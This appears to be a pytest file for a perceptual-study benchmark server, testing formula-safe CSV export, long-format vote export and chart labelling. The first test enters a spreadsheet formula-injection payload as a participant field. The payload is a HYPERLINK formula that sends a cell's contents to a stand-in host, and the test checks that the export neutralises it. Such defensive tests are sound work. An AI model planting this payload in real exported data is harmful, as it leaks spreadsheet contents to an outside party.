"""Exports: formula-safe CSV (defect 2), long format for mixed-effects models, the chart (defect 7 minor)."""

from __future__ import annotations

import csv
import io

import matplotlib
import pandas as pd
from fastapi.testclient import TestClient

from benchmarks.study.analyze import load_votes
from benchmarks.study.create import create_study
from benchmarks.study.export import csv_safe, to_csv, vote_records
from benchmarks.study.plot import build_chart, study_chart
from benchmarks.study.server import create_app

from .conftest import ADMIN, consent, current, export, make_sources, vote


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(tmp_path):
    """Defect 2: a participant ext of =HYPERLINK(...) was exported raw."""
    lq, outs = make_sources(tmp_path / "src", n_images=2, size=32)
    for folder in [lq, *outs.values()]:  # image names a spreadsheet would run, too
        (folder / "img00.png").rename(folder / "-2+3.png")
        (folder / "img01.png").rename(folder / "@SUM(A1).png")
    study = tmp_path / "study"
    create_study(lq, outs, study, n_images=2, min_view_ms=0)
    app = create_app(study, ADMIN)
    c = TestClient(app)
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    consent(c, ext=evil)
    for _ in range(2):
        pos, options, _ = current(c)
        vote(c, pos, options[0])
    rows = export(c)
    raw = c.get("/admin/export.csv", headers={"X-Admin-Token": ADMIN}).text
    for line in csv.reader(io.StringIO(raw)):
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    assert {r["image"] for r in rows} == {"'-2+3", "'@SUM(A1)"}
    long = export(c, "/admin/export-long.csv")
    assert all(not v.startswith(("=", "+", "-", "@")) for r in long for v in r.values())
    # reading the export back undoes the apostrophes, so analysis sees the real names
    path = tmp_path / "votes.csv"
    path.write_text(raw)
    back = load_votes(study, path)
    assert set(back["image"]) == {"-2+3", "@SUM(A1)"}
    assert csv_safe(-3) == -3 and csv_safe("plain") == "plain" and csv_safe("\tx") == "'\tx"
    assert to_csv(vote_records(app.state.store)) == raw


def test_long_format_has_one_row_per_option_shown(client, study_dir):
    consent(client)
    pos, options, _ = current(client)
    vote(client, pos, options[1])
    long = export(client, "/admin/export-long.csv")
    assert len(long) == len(options)
    assert [r["position"] for r in long] == [str(k + 1) for k in range(len(options))]
    assert [r["chosen"] for r in long] == ["0", "1", "0"]
    assert {r["choice_set"] for r in long} == {"p0001:0"} and {r["score"] for r in long} == {"0.0", "1.0"}
    frame = pd.DataFrame(long)
    assert set(frame["method"]) == {"bicubic", "sharp", "smooth"}


def _summary():
    return pd.DataFrame(
        {"share": [0.9, 0.06, 0.04], "ci_low": [0.8, 0.01, 0.0], "ci_high": [0.95, 0.1, 0.09]},
        index=pd.Index(["PASD", "$x$", "tiny"], name="method"),
    )


def test_chart_labels_are_readable_and_dollars_are_literal(tmp_path):
    """Defect 7 (minor): white-on-white bar labels and `$...$` in a title rendered as maths."""
    fig = build_chart(_summary(), "best-of-n", title="Costs $5 vs $10", ci_label="error bars: test")
    ax = fig.axes[0]
    bars = list(ax.patches)
    labels = [t for t in ax.texts]
    assert len(labels) == 3
    for bar, label in zip(bars, labels):
        top = bar.get_y() + bar.get_height()
        assert label.get_position()[1] > top  # above the bar, on the white background
        assert matplotlib.colors.to_rgb(label.get_color())[0] < 0.3  # dark text
    with matplotlib.rc_context({"svg.fonttype": "none"}):
        paths = study_chart(
            _summary(), tmp_path / "c", "best-of-n", title="Costs $5 vs $10", ci_label="error bars: x"
        )
    svg = paths[1].read_text()
    assert "Costs $5 vs $10" in svg and "$x$" in svg and "error bars: x" in svg
    matplotlib.pyplot.close(fig)


def test_mos_chart_uses_the_rating_scale(tmp_path):
    s = pd.DataFrame({"mos": [4.1, 2.5], "ci_low": [3.8, 2.1], "ci_high": [4.4, 2.9]}, index=["a", "b"])
    fig = build_chart(s, "mos", title="MOS")
    assert fig.axes[0].get_ylim()[0] == 1 and [t.get_text() for t in fig.axes[0].texts] == ["4.10", "2.50"]
    matplotlib.pyplot.close(fig)
